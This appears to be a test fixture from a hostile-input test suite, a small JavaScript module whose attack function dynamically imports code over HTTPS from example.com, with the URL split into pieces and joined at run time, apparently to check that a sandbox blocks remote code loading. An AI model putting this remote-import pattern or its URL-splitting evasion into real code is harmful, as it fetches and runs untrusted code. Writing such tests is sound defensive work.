/**
 * Hostile fixture `import_remote` (tests/hostile/hostile_test.ts): imports code over HTTPS at run time.
 *
 * The model around the attack is ../../../hostile_shell.js, which the test
 * copies beside this file.
 *
 * @module
 */

import { hostileModel } from "./hostile_shell.js";

/** The attack; may return "huge" or "malformed" to shape the answer. */
async function attack(_requests, _port) {
  await import(["https:", "", "example.com", "mod.js"].join("/"));
}

export default hostileModel(attack);
